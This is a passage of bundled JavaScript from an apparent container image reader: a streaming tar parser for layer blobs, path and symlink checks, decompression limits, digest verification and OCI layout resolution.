/** Reads the first bytes of a stream without consuming them (they are unshifted back). */
function peek(stream, bytes = 4) {
    return new Promise((resolve, reject) => {
        const cleanup = () => {
            stream.off('readable', onReadable);
            stream.off('end', onEnd);
            stream.off('error', onError);
        };
        const onReadable = () => {
            const chunk = stream.read();
            if (chunk === null)
                return;
            cleanup();
            stream.unshift(chunk);
            resolve(chunk.subarray(0, bytes));
        };
        const onEnd = () => {
            cleanup();
            resolve(Buffer.alloc(0));
        };
        const onError = (error) => {
            cleanup();
            reject(error);
        };
        stream.on('readable', onReadable);
        stream.on('end', onEnd);
        stream.on('error', onError);
    });
}

;// CONCATENATED MODULE: ./src/image/entry-paths.ts
/**
 * Path rules for layer entries: names are normalised to absolute paths inside the image, names
 * that are absolute or climb out of the root are refused, hard links must point at an entry
 * seen before them in the layer, and an entry may not sit under a symlink chain that loops.
 */

/** `./usr/bin/` → `/usr/bin`; refuses absolute names and `..` that leaves the root. */
function normaliseEntryPath(name, where) {
    if (name.startsWith('/'))
        throw new errors/* InputError */.dz(`${where}: entry "${name}" has an absolute name (layer entries are relative to the root)`);
    const parts = [];
    for (const part of name.split('/')) {
        if (part === '' || part === '.')
            continue;
        if (part === '..') {
            if (parts.length === 0)
                throw new errors/* InputError */.dz(`${where}: entry "${name}" climbs out of the root with ".."`);
            parts.pop();
        }
        else
            parts.push(part);
    }
    return `/${parts.join('/')}`;
}
/** Resolves a symlink target against the directory holding the link. */
function resolveTarget(linkPath, target) {
    const base = target.startsWith('/') ? [] : linkPath.split('/').slice(1, -1);
    for (const part of target.split('/')) {
        if (part === '' || part === '.')
            continue;
        if (part === '..')
            base.pop();
        else
            base.push(part);
    }
    return `/${base.join('/')}`;
}
const MAX_HOPS = 40; // the kernel's limit (MAXSYMLINKS)
class LayerPathTracker {
    where;
    seen = new Set();
    symlinks = new Map();
    constructor(where) {
        this.where = where;
    }
    add(entry) {
        if (entry.type === 'hardlink' && !this.seen.has(entry.linkTarget)) {
            throw new errors/* InputError */.dz(`${this.where}: hard link ${entry.path} points at ${entry.linkTarget}, which is not in the layer before it`);
        }
        if (this.symlinks.size > 0)
            this.checkAncestors(entry.path);
        this.seen.add(entry.path);
        if (entry.type === 'symlink')
            this.symlinks.set(entry.path, resolveTarget(entry.path, entry.linkTarget ?? ''));
        else
            this.symlinks.delete(entry.path);
    }
    /** An entry whose parent directory is reached through symlinks must resolve within 40 hops. */
    checkAncestors(path) {
        for (let i = path.indexOf('/', 1); i > 0; i = path.indexOf('/', i + 1)) {
            const ancestor = path.slice(0, i);
            if (this.symlinks.has(ancestor))
                this.resolve(ancestor, path);
        }
    }
    resolve(start, entryPath) {
        let current = start;
        for (let hops = 0; hops <= MAX_HOPS; hops++) {
            const next = this.nextHop(current);
            if (next === undefined)
                return;
            current = next;
        }
        throw new errors/* InputError */.dz(`${this.where}: entry ${entryPath} sits under ${start}, a symlink chain that loops (more than ${MAX_HOPS} hops)`);
    }
    /** One step of resolution: the first symlinked prefix of `path` replaced by its target. */
    nextHop(path) {
        let end = path.length;
        while (end > 0) {
            const prefix = path.slice(0, end);
            const target = this.symlinks.get(prefix);
            if (target !== undefined)
                return target + path.slice(end);
            end = path.lastIndexOf('/', end - 1);
        }
        return undefined;
    }
}

// EXTERNAL MODULE: ./src/image/tar-header.ts
var tar_header = __webpack_require__(20262);
;// CONCATENATED MODULE: ./src/image/tar-parser.ts
/**
 * A streaming tar reader for layer blobs: headers are parsed in place from the decompressor's
 * chunks and an entry's content is handed to a sink as slices of those chunks.
 *
 * Hand-written rather than tar-stream, for two reasons:
 * - Speed (issue 14): tar-stream makes a Readable per entry (listeners, end-of-stream tracking,
 *   a microtask hop per entry); over the realistic image's 11,675 entries that was ~0.4 s of the
 *   main thread's CPU, the thread that must keep both cores' gunzip fed. Measured in
 *   bench/image-reader.mjs.
 * - Fidelity: it reads what Go's archive/tar (containerd, Docker) reads. A hard link, symlink,
 *   device, directory or FIFO has no content whatever its size field says (tar-stream skipped
 *   `size` bytes, so entries hidden there were never seen, though Docker extracts them); two zero
 *   blocks end the archive, and a zero block followed by a header is refused, as Go refuses it.
 *   Bytes after the end marker must be zero: they are in the pushed blob, but no extractor lists
 *   them, so a layer that carries any is refused rather than half-read.
 */


/** Go's limit on PAX and GNU long-name records (archive/tar maxSpecialFileSize). */
const MAX_META_BYTES = 1024 * 1024;
const HEADER_ONLY = new Set(['1', '2', '3', '4', '5', '6']);
const TYPES = {
    '0': 'file',
    '7': 'file',
    S: 'file', // GNU sparse: extracted as a regular file
    '1': 'hardlink',
    '2': 'symlink',
    '3': 'character-device',
    '4': 'block-device',
    '5': 'directory',
    '6': 'fifo',
};
/** `checksum` and `truncated` get their own words in the layer's error; `format` is the rest. */
class TarFormatError extends Error {
    kind;
    constructor(message, kind = 'format') {
        super(message);
        this.kind = kind;
    }
}
class TarParser extends external_node_stream_.Writable {
    onEntry;
    observe;
    /** Bytes of the tar seen so far. */
    position = 0;
    state = 'header';
    headerBuf = Buffer.alloc(tar_header/* BLOCK */.IE);
    headerFill = 0;
    remaining = 0;
    padding = 0;
    sink;
    zeroBlocks = 0;
    metaType = '';
    meta = [];
    paxPath;
    paxLinkpath;
    paxSize;
    longName;
    longLink;
    /**
     * `observe` sees every chunk of the tar before it is parsed (byte limits, the diffID's hash): one
     * stage fewer in the pipeline than a separate Transform.
     */
    constructor(onEntry, observe) {
        super({ highWaterMark: 1024 * 1024 });
        this.onEntry = onEntry;
        this.observe = observe;
    }
    _write(chunk, _enc, done) {
        // Parsed in a microtask, not inside the write: the write comes from zlib's callback, which
        // queues the inflate of the next chunk only once the write returns. Deferred, the thread pool
        // inflates the next chunk while this one is parsed and scanned (10% off the scan's wall time
        // on 2 cores; one chunk of look-ahead, as the high-water mark allows).
        queueMicrotask(() => {
            try {
                this.observe?.(chunk);
                this.consume(chunk);
                done();
            }
            catch (error) {
                done(error);
            }
        });
    }
    _final(done) {
        if (this.state === 'header' && this.headerFill === 0)
            return done();
        if (this.state === 'trailer')
            return done();
        done(new TarFormatError(`unexpected end of data: the tar ends inside ${this.state === 'header' ? 'a header' : 'an entry'} (at byte ${this.position})`, 'truncated'));
    }
    consume(chunk) {
        let at = 0;
        const length = chunk.length;
        while (at < length) {
            switch (this.state) {
                case 'header': {
                    if (this.headerFill === 0 && length - at >= tar_header/* BLOCK */.IE) {
                        this.position += tar_header/* BLOCK */.IE;
                        this.header(chunk, at);
                        at += tar_header/* BLOCK */.IE;
                    }
                    else {
                        const take = Math.min(tar_header/* BLOCK */.IE - this.headerFill, length - at);
                        chunk.copy(this.headerBuf, this.headerFill, at, at + take);
                        this.headerFill += take;
                        at += take;
                        this.position += take;
                        if (this.headerFill === tar_header/* BLOCK */.IE) {
                            this.headerFill = 0;
                            this.header(this.headerBuf, 0);
                        }
                    }
                    break;
                }
                case 'data':
                case 'meta': {
                    const take = Math.min(this.remaining, length - at);
                    const slice = chunk.subarray(at, at + take);
                    if (this.state === 'data')
                        this.sink?.write(slice);
                    else
                        this.meta.push(Buffer.from(slice)); // copied: small, and kept past this chunk
                    at += take;
                    this.position += take;
                    this.remaining -= take;
                    if (this.remaining === 0)
                        this.endContent();
                    break;
                }
                case 'padding': {
                    const take = Math.min(this.padding, length - at);
                    at += take;
                    this.position += take;
                    this.padding -= take;
                    if (this.padding === 0)
                        this.state = 'header';
                    break;
                }
                case 'trailer': {
                    const nonZero = findNonZero(chunk, at);
                    if (nonZero !== -1)
                        throw new TarFormatError(`data after the end-of-archive marker at byte ${this.position + (nonZero - at)} (content no extractor would list)`);
                    this.position += length - at;
                    at = length;
                    break;
                }
            }
        }
    }
    /** One 512-byte header at `buf[offset]`; `this.position` is already past it. */
    header(buf, offset) {
        const start = this.position - tar_header/* BLOCK */.IE;
        if (buf[offset] === 0 && (0,tar_header/* isZeroBlock */.ei)(buf, offset)) {
            this.zeroBlocks++;
            if (this.zeroBlocks === 2)
                this.state = 'trailer';
            return;
        }
        if (this.zeroBlocks > 0)
            throw new TarFormatError(`tar header at byte ${start} follows a zero block (Go's tar reader, which extracts layers, refuses this)`);
        if (!(0,tar_header/* checksumOk */.eu)(buf, offset))
            throw new TarFormatError(`tar header at byte ${start} has a bad checksum (corrupt, or not a tar)`, 'checksum');
        const flag = buf[offset + 156] === 0 ? '\0' : String.fromCharCode(buf[offset + 156]);
        const declared = (0,tar_header/* readNumber */.kz)(buf, offset + 124, 12);
        if (Number.isNaN(declared))
            throw new TarFormatError(`tar header at byte ${start} has an invalid size field`);
        if (flag === 'x' || flag === 'g' || flag === 'L' || flag === 'K') {
            if (declared > MAX_META_BYTES)
                throw new TarFormatError(`tar header at byte ${start}: a ${flag === 'L' || flag === 'K' ? 'GNU long name' : 'PAX'} record of ${declared} bytes (the limit is ${MAX_META_BYTES})`);
            this.metaType = flag;
            this.meta = [];
            this.beginContent(declared, 'meta');
            return;
        }
        const magic = buf.toString('latin1', offset + 257, offset + 265);
        const ustar = magic === 'ustar\u000000';
        let name = this.paxPath ?? this.longName;
        if (name === undefined) {
            const base = (0,tar_header/* readString */.E3)(buf, offset, 100);
            const prefix = ustar ? (0,tar_header/* readString */.E3)(buf, offset + 345, 155) : '';
            name = prefix ? `${prefix}/${base}` : base;
        }
        const linkname = this.paxLinkpath ?? this.longLink ?? (0,tar_header/* readString */.E3)(buf, offset + 157, 100);
        let size = this.paxSize ?? declared;
        this.paxPath = this.paxLinkpath = this.paxSize = this.longName = this.longLink = undefined;
        let type;
        if (flag === '\0')
            type = name.endsWith('/') ? 'directory' : 'file';
        else
            type = TYPES[flag] ?? 'other';
        if (HEADER_ONLY.has(flag) || type === 'directory')
            size = 0;
        const mode = (0,tar_header/* readNumber */.kz)(buf, offset + 100, 8);
        const sink = this.onEntry({ name, type, size, mode: Number.isNaN(mode) ? 0 : mode, linkname, offset: start });
        this.sink = sink || undefined;
        this.beginContent(size, 'data');
    }
    beginContent(size, state) {
        this.padding = (tar_header/* BLOCK */.IE - (size % tar_header/* BLOCK */.IE)) % tar_header/* BLOCK */.IE;
        this.remaining = size;
        this.state = state;
        if (size === 0)
            this.endContent();
    }
    endContent() {
        if (this.state === 'data') {
            const sink = this.sink;
            this.sink = undefined;
            sink?.end();
        }
        else
            this.applyMeta(Buffer.concat(this.meta));
        this.state = this.padding > 0 ? 'padding' : 'header';
    }
    applyMeta(data) {
        const at = this.position - data.length - tar_header/* BLOCK */.IE;
        if (this.metaType === 'L')
            this.longName = (0,tar_header/* readString */.E3)(data, 0, data.length);
        else if (this.metaType === 'K')
            this.longLink = (0,tar_header/* readString */.E3)(data, 0, data.length);
        else if (this.metaType === 'x') {
            for (const [key, value] of parsePax(data, at)) {
                if (key === 'path')
                    this.paxPath = value;
                else if (key === 'linkpath')
                    this.paxLinkpath = value;
                else if (key === 'size') {
                    if (!/^\d{1,15}$/.test(value))
                        throw new TarFormatError(`tar header at byte ${at}: PAX size "${value.slice(0, 20)}" is not a size`);
                    this.paxSize = Number(value);
                }
            }
        }
        // 'g' (global PAX) applies to nothing Docker reads.
    }
}
/** PAX records: `LENGTH KEY=VALUE\n`, LENGTH counting the whole record. */
function parsePax(data, at) {
    const records = [];
    let i = 0;
    while (i < data.length) {
        if (data[i] === 0)
            break; // NUL padding after the last record
        const space = data.indexOf(0x20, i);
        const length = space === -1 ? Number.NaN : Number(data.toString('latin1', i, space));
        if (!Number.isInteger(length) || length <= space - i + 1 || i + length > data.length || data[i + length - 1] !== 0x0a) {
            throw new TarFormatError(`tar header at byte ${at}: malformed PAX record at offset ${i}`);
        }
        const record = data.toString('utf8', space + 1, i + length - 1);
        const eq = record.indexOf('=');
        if (eq <= 0)
            throw new TarFormatError(`tar header at byte ${at}: malformed PAX record at offset ${i}`);
        records.push([record.slice(0, eq), record.slice(eq + 1)]);
        i += length;
    }
    return records;
}
function findNonZero(buf, from) {
    for (let i = from; i < buf.length; i++)
        if (buf[i] !== 0)
            return i;
    return -1;
}

;// CONCATENATED MODULE: ./src/image/layer-stream.ts
/**
 * Streams one layer blob: verifies its digest, decompresses it (gzip, zstd or none, by magic
 * bytes), enforces the size and ratio limits, verifies the diffID where it is the only check, and
 * walks its tar entries (tar-parser.ts), handing each to the caller with whiteouts recorded apart.
 * Nothing touches the disk.
 *
 * One SHA-256 pass per layer: a compressed blob whose digest a content-addressed manifest names
 * is authenticated by that digest, so hashing its uncompressed tar as well (the diffID) adds no
 * security and costs a second pass over 2-3x the bytes. The diffID is computed where it is the
 * only check (a docker-archive, whose manifest.json is not content-addressed, or a layer with no
 * digest); for an uncompressed layer the blob is the tar, and one hash serves both.
 */







/** Counts and hashes (when asked) the stored blob as it passes to the decompressor. */
class Meter extends external_node_stream_.Transform {
    hash;
    bytes = 0;
    constructor(hashed) {
        super({ highWaterMark: 1024 * 1024 });
        if (hashed)
            this.hash = (0,external_node_crypto_.createHash)('sha256');
    }
    digest() {
        return this.hash ? `sha256:${this.hash.digest('hex')}` : undefined;
    }
    _transform(chunk, _enc, done) {
        this.bytes += chunk.length;
        this.hash?.update(chunk);
        done(null, chunk);
    }
}
const layer_stream_TYPES = {
    file: 'file',
    directory: 'directory',
    symlink: 'symlink',
    hardlink: 'hardlink',
    'character-device': 'other',
    'block-device': 'other',
    fifo: 'other',
    other: 'other',
};
/** Which passes hash: the stored blob, the uncompressed tar (see the file comment). */
function hashPlan(layer, compression) {
    if (compression === 'none')
        return { blob: Boolean(layer.digest || layer.diffId), tar: false };
    return { blob: Boolean(layer.digest), tar: Boolean(layer.diffId) && !(layer.digest && layer.digestFromManifest) };
}
async function readLayerEntries(request) {
    const { layer, limits, display } = request;
    const where = `${display}: layer ${layer.index} (${layer.digest || 'no digest'})`;
    const raw = await layer.open();
    const compression = detectCompression(await peek(raw));
    const hashed = hashPlan(layer, compression);
    const stored = new Meter(hashed.blob);
    let tarBytes = 0;
    const tarHash = hashed.tar ? (0,external_node_crypto_.createHash)('sha256') : undefined;
    const observeTar = (chunk) => {
        tarBytes += chunk.length;
        tarHash?.update(chunk);
        if (tarBytes > limits.maxLayerBytes) {
            throw new errors/* InputError */.dz(`${where}: decompresses past the ${limits.maxLayerBytes}-byte layer limit (a decompression bomb, or raise the limit)`);
        }
        if (compression !== 'none' && tarBytes > limits.ratioFloorBytes && tarBytes / Math.max(stored.bytes, 1) > limits.maxRatio) {
            throw new errors/* InputError */.dz(`${where}: decompression ratio over ${limits.maxRatio}:1 after ${tarBytes} bytes (a decompression bomb, or raise the limit)`);
        }
    };
    const listing = { index: layer.index, entries: [], whiteouts: [], opaqueDirs: [], bytes: 0 };
    const paths = new LayerPathTracker(where);
    const extract = new TarParser((header) => handleEntry(header, listing, paths, layer.index, where, request.onEntry), observeTar);
    const decompressor = createDecompressor(compression);
    // The first stage to fail is the cause; pipeline then destroys the others with the same error.
    let failedStage;
    decompressor?.once('error', () => (failedStage ??= 'decompress'));
    extract.once('error', () => (failedStage ??= 'tar'));
    try {
        if (decompressor)
            await (0,promises_.pipeline)(raw, stored, decompressor, extract);
        else
            await (0,promises_.pipeline)(raw, stored, extract);
    }
    catch (error) {
        throw describeLayerError(error, where, compression, failedStage);
    }
    listing.bytes = tarBytes;
    const blobDigest = stored.digest();
    const diffId = compression === 'none' ? blobDigest : tarHash && `sha256:${tarHash.digest('hex')}`;
    // The config's diffID first: for a legacy docker-archive layer it is also the digest.
    if (layer.diffId && diffId !== undefined && layer.diffId !== diffId) {
        throw new errors/* InputError */.dz(`${where}: diffID mismatch: the config says ${layer.diffId}, the uncompressed layer hashes to ${diffId}`);
    }
    if (layer.digest && layer.digest !== blobDigest) {
        throw new errors/* InputError */.dz(`${where}: blob digest mismatch: the manifest says ${layer.digest}, the bytes hash to ${blobDigest}`);
    }
    return { ...listing, compression, blobDigest, diffId };
}
function handleEntry(header, listing, paths, layerIndex, where, onEntry) {
    const path = normaliseEntryPath(header.name, where);
    const slash = path.lastIndexOf('/');
    const base = path.slice(slash + 1);
    if (base.startsWith('.wh.')) {
        const dir = slash <= 0 ? '/' : path.slice(0, slash);
        if (base === '.wh..wh..opq')
            listing.opaqueDirs.push(dir);
        else
            listing.whiteouts.push(`${dir === '/' ? '' : dir}/${base.slice(4)}`);
        return;
    }
    const type = layer_stream_TYPES[header.type];
    // An entry of another type that carries bytes (an unknown typeflag) is still content of the blob.
    const entry = { path, type, size: type === 'file' || type === 'other' ? header.size : 0, mode: header.mode, layerIndex };
    if (type === 'symlink')
        entry.linkTarget = header.linkname;
    if (type === 'hardlink')
        entry.linkTarget = normaliseEntryPath(header.linkname, where);
    paths.add(entry);
    listing.entries.push({ path, type });
    return onEntry?.(entry);
}
function describeLayerError(error, where, compression, failedStage) {
    if (error instanceof errors/* InputError */.dz)
        return error;
    const e = error;
    const message = e.message ?? String(error);
    if (failedStage === 'decompress')
        return new errors/* InputError */.dz(`${where}: corrupt or truncated ${compression} data (${message})`, { cause: error });
    if (error instanceof TarFormatError) {
        if (error.kind === 'checksum')
            return new errors/* InputError */.dz(`${where}: tar header with a bad checksum (${message})`, { cause: error });
        if (error.kind === 'truncated')
            return new errors/* InputError */.dz(`${where}: truncated layer (${message})`, { cause: error });
        return new errors/* InputError */.dz(`${where}: ${message}`, { cause: error });
    }
    if (/premature/i.test(message))
        return new errors/* InputError */.dz(`${where}: truncated layer (${message})`, { cause: error });
    if (e.code === 'ENOENT')
        return new errors/* InputError */.dz(`${where}: blob missing (${message})`, { cause: error });
    return new errors/* InputError */.dz(`${where}: ${message}`, { cause: error });
}

// EXTERNAL MODULE: ./src/image/manifest.ts
var manifest = __webpack_require__(20596);
;// CONCATENATED MODULE: ./src/image/source.ts
/** Parses image sources written in the transport syntax skopeo and podman users know. */

const FORMS = 'docker-archive:PATH[:REF], oci:DIR[:TAG], oci-archive:PATH[:TAG], docker-daemon:REF or docker://REF';
/** Splits `PATH[:REF]` on the first colon, as skopeo does (a path cannot hold a colon). */
function splitPathAndTag(rest) {
    const colon = rest.indexOf(':');
    if (colon < 0)
        return { path: rest };
    const tag = rest.slice(colon + 1);
    return tag ? { path: rest.slice(0, colon), tag } : { path: rest.slice(0, colon) };
}
function parseSource(text) {
    const value = text.trim();
    const make = (transport, reference, extra = {}) => ({
        transport,
        reference,
        display: value,
        ...extra,
    });
    if (value.startsWith('docker://')) {
        const reference = value.slice('docker://'.length);
        if (!reference)
            throw new errors/* InputError */.dz(`image source "${value}": missing the image reference after docker://`);
        return make('docker', reference);
    }
    const colon = value.indexOf(':');
    const prefix = colon > 0 ? value.slice(0, colon) : '';
    const rest = colon > 0 ? value.slice(colon + 1) : '';
    switch (prefix) {
        case 'docker-archive':
        case 'oci':
        case 'oci-archive': {
            const { path, tag } = splitPathAndTag(rest);
            if (!path)
                throw new errors/* InputError */.dz(`image source "${value}": missing the path after ${prefix}:`);
            return make(prefix, rest, { path, tag });
        }
        case 'docker-daemon':
            if (!rest)
                throw new errors/* InputError */.dz(`image source "${value}": missing the image reference after docker-daemon:`);
            return make('docker-daemon', rest, { path: rest });
        default:
            throw new errors/* InputError */.dz(`image source "${value}": unknown transport; use one of ${FORMS}`);
    }
}

// EXTERNAL MODULE: ./src/image/transports/docker-archive.ts
var docker_archive = __webpack_require__(40637);
// EXTERNAL MODULE: external "node:fs/promises"
var external_node_fs_promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: ./src/image/archive-index.ts
var archive_index = __webpack_require__(54798);
// EXTERNAL MODULE: external "node:fs"
var external_node_fs_ = __webpack_require__(73024);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
;// CONCATENATED MODULE: ./src/image/transports/layout-store.ts
/** Files of an OCI image layout, from a directory (oci:) or from a tar archive (oci-archive:). */




class DirectoryStore {
    dir;
    display;
    constructor(dir, display) {
        this.dir = dir;
        this.display = display;
    }
    async exists(relPath) {
        return (await this.size(relPath)) !== undefined;
    }
    async size(relPath) {
        try {
            return (await (0,external_node_fs_promises_.stat)((0,external_node_path_.join)(this.dir, relPath))).size;
        }
        catch {
            return undefined;
        }
    }
    async readFile(relPath, maxBytes, what) {
        const size = await this.size(relPath);
        if (size === undefined)
            throw new errors/* InputError */.dz(`${this.display}: ${what} ${relPath} is missing`);
        if (size > maxBytes)
            throw new errors/* InputError */.dz(`${this.display}: ${what} ${relPath} is ${size} bytes, over the ${maxBytes}-byte JSON limit`);
        const handle = await (0,external_node_fs_promises_.open)((0,external_node_path_.join)(this.dir, relPath), 'r');
        try {
            return await handle.readFile();
        }
        finally {
            await handle.close();
        }
    }
    async openFile(relPath) {
        if (!(await this.exists(relPath)))
            throw new errors/* InputError */.dz(`${this.display}: blob ${relPath} is missing`);
        return (0,external_node_fs_.createReadStream)((0,external_node_path_.join)(this.dir, relPath), { highWaterMark: 1024 * 1024 });
    }
}
class ArchiveStore {
    archive;
    display;
    constructor(archive, display) {
        this.archive = archive;
        this.display = display;
    }
    async exists(relPath) {
        return this.archive.get(relPath) !== undefined;
    }
    async size(relPath) {
        return this.archive.get(relPath)?.size;
    }
    async readFile(relPath, maxBytes, what) {
        return this.archive.readMember(this.archive.require(relPath, what), maxBytes, what);
    }
    async openFile(relPath) {
        return this.archive.openMember(this.archive.require(relPath, 'blob'));
    }
}
function blobPath(digest) {
    const [algorithm, hex] = digest.split(':');
    return `blobs/${algorithm}/${hex}`;
}

;// CONCATENATED MODULE: ./src/image/transports/oci-layout.ts
/** oci:DIR[:TAG] and oci-archive:PATH[:TAG]: an OCI image layout, on disk or in a tar. */







const REF_NAME = 'org.opencontainers.image.ref.name';
async function resolveOciDirectory(source, platform, limits) {
    const dir = source.path;
    const info = await (0,external_node_fs_promises_.stat)(dir).catch(() => undefined);
    if (!info?.isDirectory())
        throw new errors/* InputError */.dz(`${source.display}: ${dir} is not a directory holding an OCI image layout`);
    return resolveLayout(new DirectoryStore(dir, source.display), source, platform, limits);
}
async function resolveOciArchive(source, platform, limits) {
    const archive = await archive_index/* ArchiveIndex */.J.build(source.path, source.display);
    return resolveLayout(new ArchiveStore(archive, source.display), source, platform, limits);
}
async function readVerified(store, descriptor, limits, what) {
    const bytes = await store.readFile(blobPath(descriptor.digest), limits.maxJsonBytes, what);
    const actual = `sha256:${(0,external_node_crypto_.createHash)('sha256').update(bytes).digest('hex')}`;
    if (actual !== descriptor.digest)
        throw new errors/* InputError */.dz(`${store.display}: ${what} digest mismatch: expected ${descriptor.digest}, the bytes hash to ${actual}`);
    return bytes;
}
function pickFromLayoutIndex(index, source) {
    if (source.tag) {
        const match = index.manifests.find((m) => m.annotations?.[REF_NAME] === source.tag);
        if (match)
            return match;
        const tags = index.manifests.map((m) => m.annotations?.[REF_NAME]).filter(Boolean);
        throw new errors/* InputError */.dz(`${source.display}: no image tagged "${source.tag}" in the layout (tags: ${tags.length ? tags.join(', ') : 'none'})`);
    }
    if (index.manifests.length === 1)
        return index.manifests[0];
    if (index.manifests.length === 0)
        throw new errors/* InputError */.dz(`${source.display}: the layout's index.json lists no image`);
    const tags = index.manifests.map((m) => m.annotations?.[REF_NAME] ?? m.digest);
    throw new errors/* InputError */.dz(`${source.display}: the layout holds ${index.manifests.length} images; name one with :TAG (${tags.join(', ')})`);
}
async function resolveLayout(store, source, platform, limits) {
    if (!(await store.exists('oci-layout')))
        throw new errors/* InputError */.dz(`${source.display}: not an OCI image layout (no oci-layout file)`);
    const top = (0,manifest/* parseManifestDocument */.Qz)(await store.readFile('index.json', limits.maxJsonBytes, 'index'), `${source.display}: index.json`);
    if (top.kind !== 'index')
        throw new errors/* InputError */.dz(`${source.display}: index.json is not an image index`);
    let descriptor = pickFromLayoutIndex(top, source);
    let manifestBytes = await readVerified(store, descriptor, limits, 'manifest');
    let doc = (0,manifest/* parseManifestDocument */.Qz)(manifestBytes, `${source.display}: manifest ${descriptor.digest}`, descriptor.mediaType);
    if (doc.kind === 'index') {
        descriptor = (0,manifest/* selectPlatform */.md)(doc, platform, `${source.display}: index ${descriptor.digest}`);
        manifestBytes = await readVerified(store, descriptor, limits, 'manifest');
        doc = (0,manifest/* parseManifestDocument */.Qz)(manifestBytes, `${source.display}: manifest ${descriptor.digest}`, descriptor.mediaType);
    }
    if (doc.kind !== 'manifest')
        throw new errors/* InputError */.dz(`${source.display}: nested indexes are not supported`);
    const configBytes = await readVerified(store, doc.config, limits, 'config');
    const config = (0,image_config/* parseImageConfig */.F)(configBytes, source.display);
    for (const layer of doc.layers) {
        if (!(await store.exists(blobPath(layer.digest))))
            throw new errors/* InputError */.dz(`${source.display}: layer blob ${layer.digest} is missing from the layout`);
    }
    return {
        source,
        digest: descriptor.digest,
        manifestMediaType: doc.mediaType,
        manifestBytes,
        platform: config.os ? { os: config.os, architecture: config.architecture } : platform,
        configDigest: doc.config.digest,
        configBytes,
        layers: doc.layers.map((layer, index) => ({
            index,
            digest: layer.digest,
            size: layer.size,
            mediaType: layer.mediaType,
            diffId: config.diffIds[index],
            digestFromManifest: true,
            open: () => store.openFile(blobPath(layer.digest)),
        })),
        close: async () => { },
    };
}

;// CONCATENATED MODULE: ./src/image/reader.ts
/**
 * The image reader: one streaming API over every transport. `openImage` resolves the source
 * (manifest, platform, config, layer blobs); `readLayer` streams a layer's entries with limits,
 * digest checks and whiteouts; `readAll` builds the FilesystemIndex that says what was deleted.
 */








const defaultLimits = {
    maxLayerBytes: 8 * 1024 ** 3,
    maxRatio: 200,
    ratioFloorBytes: 64 * 1024 ** 2,
    maxJsonBytes: 8 * 1024 ** 2,
};
async function resolve(source, platform, limits, options) {
    switch (source.transport) {
        case 'docker-archive':
            return (0,docker_archive/* resolveDockerArchive */.h)(source, platform, limits);
        case 'oci':
            return resolveOciDirectory(source, platform, limits);
        case 'oci-archive':
            return resolveOciArchive(source, platform, limits);
        // Loaded when used: the registry client (http, tls) and the engine's exec are a fifth of a
        // local read's start-up otherwise (bench/image-reader.mjs).
        case 'docker-daemon':
            return (await __webpack_require__.e(/* import() */ 283).then(__webpack_require__.bind(__webpack_require__, 77283))).resolveDockerDaemon(source, platform, limits, options.tempDir);
        case 'docker':
            return (await __webpack_require__.e(/* import() */ 499).then(__webpack_require__.bind(__webpack_require__, 97499))).resolveRegistryImage(source, { ...options, limits });
    }
}
function summariseLayers(resolved, config) {
    return resolved.layers.map((layer) => {
        const step = config.history.find((h) => h.layerIndex === layer.index);
        const summary = { index: layer.index, digest: layer.digest };
        if (layer.diffId)
            summary.diffId = layer.diffId;
        if (layer.size !== undefined)
            summary.size = layer.size;
        if (layer.mediaType)
            summary.mediaType = layer.mediaType;
        if (step)
            summary.createdBy = (0,image_config/* maskBuildArgs */.E)(step.createdBy);
        return summary;
    });
}
async function openImage(sourceText, options = {}) {
    const source = typeof sourceText === 'string' ? parseSource(sourceText) : sourceText;
    const wanted = (0,manifest/* parsePlatform */.FL)(options.platform ?? 'linux/amd64');
    const limits = { ...defaultLimits, ...options.limits };
    const logger = options.logger ?? util_logger/* silentLogger */.qq;
    const resolved = await resolve(source, wanted, limits, options);
    try {
        const config = (0,image_config/* parseImageConfig */.F)(resolved.configBytes, source.display);
        const variant = typeof config.raw.variant === 'string' ? config.raw.variant : undefined;
        const platform = config.os ? { os: config.os, architecture: config.architecture, ...(variant ? { variant } : {}) } : resolved.platform;
        logger.debug(`${source.display}: ${resolved.layers.length} layers, ${(0,manifest/* formatPlatform */.Bq)(platform)}, ${resolved.digest}`);
        const readLayer = async (index, onEntry) => {
            const layer = resolved.layers[index];
            if (!layer)
                throw new RangeError(`${source.display}: no layer ${index} (the image has ${resolved.layers.length})`);
            const { compression: _c, blobDigest: _b, diffId: _d, ...listing } = await readLayerEntries({ display: source.display, layer, limits, onEntry });
            return listing;
        };
        return {
            source,
            digest: resolved.digest,
            configDigest: resolved.configDigest,
            platform,
            config,
            layers: summariseLayers(resolved, config),
            reopenSource: resolved.spooledArchive ? `docker-archive:${resolved.spooledArchive}` : source.display,
            resolved,
            readLayer,
            async readAll(onEntry, { concurrency = 2 } = {}) {
                const listings = new Array(resolved.layers.length);
                let next = 0;
                // Layers overlap: one layer's gunzip runs on the thread pool while another's tar is parsed.
                const worker = async () => {
                    for (let i = next++; i < resolved.layers.length; i = next++)
                        listings[i] = await readLayer(i, onEntry);
                };
                await Promise.all(Array.from({ length: Math.max(1, Math.min(concurrency, resolved.layers.length)) }, worker));
                return new filesystem_index/* FilesystemIndex */.w(listings);
            },
            close: () => resolved.close(),
        };
    }
    catch (error) {
        await resolved.close();
        throw error;
    }
}


/***/ }),

/***/ 20262:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   E3: () => (/* binding */ readString),
/* harmony export */   IE: () => (/* binding */ BLOCK),
/* harmony export */   ei: () => (/* binding */ isZeroBlock),
/* harmony export */   eu: () => (/* binding */ checksumOk),
/* harmony export */   kz: () => (/* binding */ readNumber)
/* harmony export */ });
/**
 * The 512-byte tar header fields both tar readers need (the streaming layer parser and the
 * random-access archive index), read the way Go's archive/tar reads them: Go is what containerd
 * and Docker extract layers with, so what they would put on disk is what gets inspected.
 */
const BLOCK = 512;
/** A NUL-terminated field; the whole field when no NUL. */
function readString(buf, start, length) {
    const end = buf.indexOf(0, start);
    return buf.toString('utf8', start, end === -1 || end > start + length ? start + length : end);
}
/** An octal number field, or GNU base-256 (high bit set) for values past the octal range. NaN when neither. */
function readNumber(buf, start, length) {
    if (buf[start] & 0x80) {
        if (buf[start] & 0x40)
            return Number.NaN; // negative base-256: no size or mode is negative
        let value = buf[start] & 0x3f;
        for (let i = start + 1; i < start + length; i++)
            value = value * 256 + buf[i];
        return value;
    }
    // Octal digits, with NUL or space padding on either side (what every writer emits).
    let value = 0;
    let i = start;
    const end = start + length;
